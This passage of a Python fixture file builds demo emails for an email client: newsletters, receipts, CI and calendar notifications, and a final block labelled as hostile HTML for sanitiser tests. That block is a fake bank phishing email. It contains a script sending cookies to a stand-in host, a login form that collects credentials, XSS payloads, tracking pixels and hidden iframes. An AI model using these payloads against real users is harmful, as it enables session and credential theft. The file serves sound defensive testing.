            Mountain Time.</p>
            <p><a class="button" href="https://shop.trailhead.example.com/winter?c=th-88213-xq">Shop the sale</a></p>
            """,
    ),
    _newsletter(
        key="brewline-news",
        date=_at("2026-11-12 12:00:00", PST),
        sender=Person("Brewline Coffee", "hello@brewline.example.com"),
        to=ALEX_HOME,
        subject="Your November roast is here, plus free shipping this week",
        list_name="Brewline Coffee",
        token="bl-nov-5521",
        colour="#6d4c41",
        preheader="Cherry, cocoa and brown sugar. Free shipping through Sunday.",
        html_in_alternative=True,
        extra=(("Feedback-ID", "nov26:brewline:mailcraft"),),
        body="""
            <h2>Meet November's roast: Huila Red Honey</h2>
            <p>This month's single origin comes from a family farm in Huila, Colombia:
            a red honey process coffee with notes of cherry, cocoa and brown sugar.</p>
            <p><img src="https://brewline.example.com/img/huila-bag.jpg" width="300" alt="Bag of coffee"></p>
            <p>Subscribers get it automatically. Not a subscriber? Shipping is
            <strong>free on every order this week</strong>.</p>
            <p><a class="button" href="https://brewline.example.com/shop/huila?u=bl-nov-5521">Order now</a></p>
            """,
    ),
    _newsletter(
        key="fieldnotes",
        date=_at("2026-11-15 13:00:00", UTC),
        sender=Person("Fieldnotes", "newsletter@fieldnotes.example.org"),
        to=ALEX,
        subject="Fieldnotes #88: vacuum tuning, Rust pipelines and a CSV horror story",
        list_name="Fieldnotes data engineering digest",
        token="fn88-5kd02",
        colour="#455a64",
        preheader="Vacuum tuning, Rust in data pipelines, and a CSV horror story.",
        text="""
            Fieldnotes #88

            Hello data people,

            Three good reads this week:

            * Autovacuum tuning for write-heavy tables: a practical checklist,
              with the three settings that actually matter.
            * "We rewrote our ingestion workers in Rust": what got faster, what
              didn't, and what they'd do differently.
            * A CSV horror story: one file, four encodings and a byte-order mark.

            Plus: the results of our reader survey. 61% of you still schedule
            pipelines with cron. No judgement.

            Read online: https://fieldnotes.example.org/issues/88
            Unsubscribe: https://fieldnotes.example.org/unsubscribe/fn88-5kd02
            """,
        body="""
            <p>Hello data people,</p>
            <p>Three good reads this week:</p>
            <ul>
            <li><a href="https://fieldnotes.example.org/go/88-1">Autovacuum tuning for write-heavy tables</a>:
            a practical checklist, with the three settings that actually matter.</li>
            <li><a href="https://fieldnotes.example.org/go/88-2">"We rewrote our ingestion workers in Rust"</a>:
            what got faster, what didn't, and what they'd do differently.</li>
            <li><a href="https://fieldnotes.example.org/go/88-3">A CSV horror story</a>:
            one file, four encodings and a byte-order mark.</li>
            </ul>
            <p>Plus: the results of our reader survey. 61% of you still schedule pipelines
            with cron. No judgement.</p>
            """,
    ),
    _newsletter(
        key="cloudnest-updates",
        date=_at("2026-11-17 17:00:00", UTC),
        sender=Person("Cloudnest", "updates@cloudnest.example.net"),
        to=ALEX,
        subject="Introducing Cloudnest Functions: deploy in seconds",
        list_name="Cloudnest product updates",
        token="cn-prod-3391",
        colour="#5e35b1",
        preheader="Run code next to your data, with no servers to manage.",
        extra=(("X-Mailer", "Cloudnest Messaging"),),
        body="""
            <p>Today we're launching <strong>Cloudnest Functions</strong>: run code next to
            your data, triggered by uploads, schedules or HTTP requests, with no servers to
            manage.</p>
            <ul>
            <li>Cold starts under 100 ms</li>
            <li>Python, Node and Go runtimes</li>
            <li>1 million invocations free every month</li>
            </ul>
            <p><a class="button" href="https://cloudnest.example.net/functions?src=email">Try Functions free</a></p>
            """,
    ),
    _newsletter(
        key="dataops-live",
        date=_at("2026-11-19 15:00:00", UTC),
        sender=Person("DataOps Live", "events@dataopslive.example.org"),
        to=ALEX,
        subject="Last chance: register for Scaling Pipelines Live (Nov 24)",
        list_name="DataOps Live events",
        token="dol-spl-7720",
        colour="#c62828",
        preheader="Tuesday, November 24. Registration closes Monday.",
        text="""
            Scaling Pipelines Live: Tuesday, November 24, 9am PT / 5pm GMT

            Join engineers from three data teams for an hour of honest talks about
            running pipelines at scale: backpressure, schema drift and on-call.

            Registration closes Monday. Save your seat:
            https://dataopslive.example.org/register/spl?u=dol-spl-7720

            Can't make it live? Register anyway and we'll send the recording.
            """,
        body="""
            <p><strong>Tuesday, November 24, 9am PT / 5pm GMT</strong></p>
            <p>Join engineers from three data teams for an hour of honest talks about
            running pipelines at scale: backpressure, schema drift and on-call.</p>
            <p>Registration closes Monday.</p>
            <p><a class="button" href="https://dataopslive.example.org/register/spl?u=dol-spl-7720">Save your seat</a></p>
            <p>Can't make it live? Register anyway and we'll send the recording.</p>
            """,
    ),
)


# --- machine-sent notifications ---------------------------------------------------
NOTIFICATIONS: tuple[DemoMessage, ...] = (
    DemoMessage(
        key="hostwise-receipt",
        kind="notification",
        date=_at("2026-11-07 00:05:13", UTC),
        sender=Person("Hostwise Billing", "billing@hostwise.example.net"),
        to=(ALEX,),
        subject="Your Hostwise receipt [INV-2026-1107]",
        headers=_auto_headers("Hostwise Billing 4.2", ("Return-Path", "<bounces@hostwise.example.net>")),
        attachments=(Attachment("INV-2026-1107.pdf", "application/pdf", INVOICE_PDF),),
        text=_t(
            """
            Hi Alex,

            Thanks for your payment. Your receipt is attached as a PDF.

              Invoice:      INV-2026-1107
              Plan:         Team (3 seats)
              Period:       7 Nov 2026 - 6 Dec 2026
              Amount paid:  USD 48.00
              Paid with:    Visa ending 4242

            You can download past invoices at https://hostwise.example.net/billing

            The Hostwise team
            """
        ),
    ),
    DemoMessage(
        key="parcelpoint-shipped",
        kind="notification",
        date=_at("2026-11-10 18:40:22", EST),
        sender=Person("Parcelpoint", "no-reply@parcelpoint.example.org"),
        to=(ALEX_HOME,),
        subject="Your order TO-58213 has shipped",
        headers=_auto_headers("Parcelpoint Notify"),
        text=_t(
            """
            Good news! Your order from Trailhead Outfitters is on its way.

            Order number:     TO-58213
            Tracking number:  PP 4417 2290 3185
            Estimated delivery: Friday, November 13

            Track your parcel: https://track.parcelpoint.example.org/PP441722903185

            This is an automated message. Please don't reply to this email.
            """
        ),
    ),
    DemoMessage(
        key="cloudnest-password-reset",
        kind="notification",
        date=_at("2026-11-14 03:12:48", UTC),
        sender=Person("Cloudnest", "no-reply@cloudnest.example.net"),
        to=(ALEX,),
        subject="Reset your Cloudnest password",
        headers=_auto_headers("Cloudnest Accounts", ("X-Auto-Response-Suppress", "All")),
        text=_t(
            """
            Hi Alex,

            We received a request to reset the password for your Cloudnest account
            (alex.morgan@example.com). To choose a new password, open this link:

            https://cloudnest.example.net/reset?token=Zq81mLxv0Pj7tRb2

            The link expires in 30 minutes. If you didn't ask to reset your
            password, you can ignore this email; your password won't change.

            Cloudnest Security
            """
        ),
    ),
    DemoMessage(
        key="calendar-q4-planning",
        kind="notification",
        date=_at("2026-11-18 10:00:04", PST),
        sender=Person("Priya Shah (Northwind Calendar)", "calendar-noreply@example.com"),
        reply_to=PRIYA,
        to=(ALEX,),
        subject="Invitation: Q4 planning review @ Mon Nov 23, 2026 10am - 11am (PST)",
        headers=_auto_headers("Northwind Calendar 2.1"),
        calendar=CALENDAR_INVITE,
        text=_t(
            """
            You have been invited to the following event.

            Q4 planning review
            When:     Mon Nov 23, 2026 10am - 11am Pacific Time
            Where:    Room 4B / https://meet.example.com/q4-planning
            Organizer: Priya Shah
            Guests:   Alex Morgan, Sam Whitfield, Priya Shah

            Walk through the Q4 roadmap and staffing. Please bring your team's
            top three risks.

            Going? Yes - Maybe - No
            https://calendar.example.com/rsvp?eid=q4-planning-review-20261123
            """
        ),
    ),
    DemoMessage(
        key="forge-review-requested",
        kind="notification",
        date=_at("2026-11-19 19:18:40", UTC),
        sender=Person("Sam Whitfield", "notifications@forge.example.com"),
        to=(Person("northwind/harbor", "harbor@noreply.forge.example.com"),),
        cc=(Person("Review requested", "review_requested@noreply.forge.example.com"),),
        subject="[northwind/harbor] Bound ingestion queues, add backpressure (#317)",
        headers=_auto_headers(
            "Forge",
            ("List-Id", "northwind/harbor <harbor.northwind.forge.example.com>"),
            (
                "List-Unsubscribe",
                "<mailto:unsub+ab12cd@reply.forge.example.com>, "
                "<https://forge.example.com/notifications/unsubscribe/ab12cd>",
            ),
            ("Precedence", "list"),
            ("X-Forge-Reason", "review_requested"),
        ),
        text=_t(
            """
            @sam-whitfield requested your review on: northwind/harbor#317 Bound
            ingestion queues and add backpressure.

            Replaces the unbounded worker queues with bounded ones (default 500)
            and pauses ingestion when the exporter falls behind.

            Fixes #309.

            You can view, comment on, or merge this pull request online at:

              https://forge.example.com/northwind/harbor/pull/317

            Commit Summary
              * Bound worker queues
              * Add backpressure to exporter
              * Tests for queue saturation

            File Changes (7 files)

            --
            Reply to this email directly or view it on Forge.
            You are receiving this because your review was requested.
            """
        ),
    ),
    DemoMessage(
        key="ci-build-failed",
        kind="notification",
        date=_at("2026-11-19 22:14:09", UTC),
        sender=Person("Northwind CI", "ci-noreply@example.com"),
        to=(ALEX,),
        subject="[harbor] Build failed: main #1482 (a3f9c2e)",
        headers=_auto_headers("Northwind CI 5.8", ("X-CI-Build", "1482")),
        text=_t(
            """
            Build #1482 FAILED on branch main

            Repository: northwind/harbor
            Commit:     a3f9c2e "Bound worker queues" (Sam Whitfield)
            Duration:   6m 12s
            Failed job: test (python 3.11)

            FAILED tests/ingest/test_queue.py::test_backpressure_under_load
              AssertionError: exporter lag 8.4s exceeds limit 5.0s

            1 failed, 842 passed, 3 skipped

            View the full log: https://ci.example.com/northwind/harbor/builds/1482

            You are receiving this because you are a maintainer of northwind/harbor.
            """
        ),
    ),
    DemoMessage(
        key="lena-out-of-office",
        kind="notification",
        date=_at("2026-11-19 09:14:55", CET),
        sender=LENA,
        to=(ALEX,),
        subject="Automatic reply: Harbor dashboards: access for your analysts",
        headers=(
            ("Auto-Submitted", "auto-replied"),
            ("X-Auto-Response-Suppress", "All"),
            ("X-Mailer", "Microsoft Outlook 16.0"),
        ),
        text=_t(
            """
            Thank you for your message. I am out of the office until Monday,
            23 November, with limited access to email.

            For urgent questions about Harbor exports please contact Daniel Okafor
            (daniel.okafor@example.org).

            Lena Fischer
            Bluefin Logistics
            """
        ),
    ),
)


# --- hostile HTML, for the web UI's sanitiser tests ---------------------------------
HOSTILE: tuple[DemoMessage, ...] = (
    DemoMessage(
        key="hostile-statement",
        kind="hostile",
        date=_at("2026-11-12 02:33:51", UTC),
        sender=Person("First Harbor Bank", "statements@firstharbor-bank.example.net"),
        reply_to=Person("Customer Care", "support@secure-login.example.net"),
        to=(ALEX,),
        subject="Your account statement",
        html=_t(
            """
            <!DOCTYPE html>
            <html>
            <head>
            <meta charset="utf-8">
            <meta http-equiv="refresh" content="5;url=https://secure-login.example.net/verify">
            <base href="https://secure-login.example.net/">
            <title>Your account statement</title>
            <link rel="stylesheet" href="https://tracker.example.net/extra.css">
            <style>
              @import url("https://tracker.example.net/track.css");
              body { background: url("https://tracker.example.net/bg.gif?u=alex.morgan"); font-family: Arial, sans-serif; }
              .overlay { position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 2147483647; background: #ffffff; }
            </style>
            <script>document.location = "https://secure-login.example.net/steal?c=" + document.cookie;</script>
            </head>
            <body onload="alert('loaded')">
            <div class="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#fff">
              <h1>First Harbor Bank</h1>
              <p>Your session has expired. Please sign in again to view your statement.</p>
              <form action="https://secure-login.example.net/collect" method="post">
                <label>Online banking ID <input type="text" name="user"></label>
                <label>Password <input type="password" name="pass"></label>
                <button type="submit">View statement</button>
              </form>
            </div>
            <p>Dear Customer,</p>
            <p>Your account statement for the period ending 31 October 2026 is now available.
            For your security, statements are only kept online for 7 days.</p>
            <p><a href="javascript:alert(2)">View your statement</a> |
            <a href="JaVaScRiPt:alert(3)">Download PDF</a> |
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">Secure message centre</a></p>
            <img src=x onerror=alert(1)>
            <img src="https://tracker.example.net/pixel.gif" width="1" height="1" alt="">
            <img src="https://tracker.example.net/logo.png" srcset="https://tracker.example.net/logo-2x.png 2x" alt="First Harbor Bank">
            <div style="background:url(https://tracker.example.net/div-bg.png);padding:8px">Member FDIC. Equal Housing Lender.</div>
            <iframe src="https://secure-login.example.net/frame" width="1" height="1" style="border:0"></iframe>
            <svg width="1" height="1" onload="alert(5)"><circle r="1"/></svg>
            <object data="https://secure-login.example.net/viewer.swf" width="1" height="1"></object>
            <p style="font-size:1px;color:#ffffff">statement ready verify account urgent</p>
            <script src="https://tracker.example.net/evil.js"></script>
            </body>
            </html>
            """
        ),
    ),
)


MESSAGES: tuple[DemoMessage, ...] = (
    *WORK_REQUESTS,
    *WORK_THREADS,
    *WORK_OTHER,
    *PERSONAL,
    *NEWSLETTERS,
    *NOTIFICATIONS,
    *HOSTILE,
)
